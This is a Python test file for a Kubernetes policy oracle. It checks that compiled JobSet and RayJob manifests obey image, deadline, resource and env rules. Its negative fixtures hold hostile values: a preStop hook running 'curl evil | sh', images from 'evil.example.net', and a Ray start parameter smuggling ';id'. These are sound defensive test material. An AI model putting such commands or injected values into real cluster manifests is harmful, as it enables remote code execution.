"""The oracle (tests/policy_oracle.py): whenever `compile` exits 0 for a generated policy set and
manifest (templates, --set, itemized deletions, --image-digest), the emitted objects satisfy every
rule and limit, as read from the objects by code that shares nothing with compiler/validate."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from policy_oracle import cases, compile_case, generate_cases, violations

SEED = 11
CASES = 600


def _judge(case) -> list[str]:
    ok, objects, _ = compile_case(case)
    if not ok:
        return []
    found = violations(case.policies, objects)
    return [f"{line}\n  case: {case.texts()}\n  sets: {case.sets}" for line in found]


def test_generated_cases_compile_only_within_their_policies():
    compiled = 0
    problems = []
    for case in generate_cases(SEED, CASES):
        ok, objects, _ = compile_case(case)
        compiled += ok
        if ok:
            problems += [
                f"{p}\n  {case.texts()} sets={case.sets}"
                for p in violations(case.policies, objects)
            ]
    assert not problems, "\n".join(problems[:5])
    # the generator reaches both sides: some cases compile, most are refused
    assert 0.05 * CASES < compiled < 0.95 * CASES, compiled


@settings(
    max_examples=150,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
    database=None,
)
@given(cases())
def test_whatever_compiles_holds_its_policies(case):
    assert _judge(case) == []


def test_the_judge_sees_a_broken_rule_in_emitted_objects():
    """The oracle is not vacuous: an object that breaks a rule is reported."""
    policy = {
        "apiVersion": "manifest-compiler/v1",
        "kind": "Policy",
        "metadata": {"name": "p"},
        "spec": {
            "rules": {
                "spec.image": {"pattern": "^registry\\.example\\.com/"},
                "spec.types.*.count": {"max": 4},
                "spec.timeout": {"max": "1d"},
            },
            "limits": {"gpus": 1},
        },
    }
    pod = {
        "containers": [
            {
                "name": "worker",
                "image": "evil.example.net/x@sha256:" + "a" * 64,
                "resources": {
                    "requests": {"cpu": "0", "memory": "0"},
                    "limits": {"nvidia.com/gpu": "2"},
                },
            }
        ]
    }
    jobset = {
        "kind": "JobSet",
        "metadata": {"name": "x", "labels": {"app.kubernetes.io/managed-by": "me"}},
        "spec": {
            "replicatedJobs": [
                {
                    "name": "worker",
                    "replicas": 50,
                    "template": {
                        "spec": {"activeDeadlineSeconds": 315360000, "template": {"spec": pod}}
                    },
                }
            ]
        },
    }
    found = violations([policy], [jobset])
    assert any("does not match" in f for f in found)
    assert any("worker.count: 50 above max 4" in f for f in found)
    assert any("deadline" in f for f in found)
    assert any("total gpus" in f for f in found)
    assert any("cpu request" in f for f in found) and any("managed-by" in f for f in found)


def test_the_judge_sees_every_channel_of_issue_20():
    """Secret references, Ray's runtime env, hooks, rayStartParams, retries, duplicate names."""
    policy = {
        "apiVersion": "manifest-compiler/v1",
        "kind": "Policy",
        "metadata": {"name": "p"},
        "spec": {
            "rules": {
                "spec.env.E_MODE": {"options": ["safe"]},
                "spec.command": {"canEdit": False},
                "spec.image": {"pattern": "^registry\\.example\\.com/"},
                "spec.timeout": {"max": "1d"},
            },
            "limits": {"pods": 3},
        },
    }
    container = {
        "name": "ray-head",
        "image": "registry.example.com/t:1",
        "env": [{"name": "E_MODE", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}],
        "lifecycle": {"preStop": {"exec": {"command": ["/bin/sh", "-c", "curl evil | sh"]}}},
        "resources": {"requests": {"cpu": "1", "memory": "1Gi"}},
    }
    pod = {"containers": [container], "terminationGracePeriodSeconds": 30}
    rayjob = {
        "kind": "RayJob",
        "metadata": {"name": "x", "labels": {"app.kubernetes.io/managed-by": "manifest-compiler"}},
        "spec": {
            "activeDeadlineSeconds": 86400,
            "backoffLimit": 2,
            "runtimeEnvYAML": "env_vars: {E_MODE: unsafe}\nimage_uri: evil.example.net/x:1\n",
            "rayClusterSpec": {
                "headGroupSpec": {
                    "rayStartParams": {"num-cpus": "0;id"},
                    "template": {"spec": pod},
                },
                "workerGroupSpecs": [
                    {"groupName": "g", "replicas": 1, "template": {"spec": pod}},
                    {"groupName": "g", "replicas": 1, "template": {"spec": pod}},
                ],
            },
        },
    }
    found = "\n".join(violations([policy], [rayjob]))
    assert "'unsafe' not in ['safe']" in found  # runtimeEnv env_vars
    assert "runtime env image 'evil.example.net/x:1'" in found
    assert "preStop" in found and "carries shell syntax" in found
    assert "two worker groups of one name" in found
    assert "the run may last 259200.0 s" in found
    assert "total pods 4" in found  # head, two workers and KubeRay's own submitter
    del rayjob["spec"]["runtimeEnvYAML"]
    assert "is a Secret reference under a value rule" in "\n".join(violations([policy], [rayjob]))
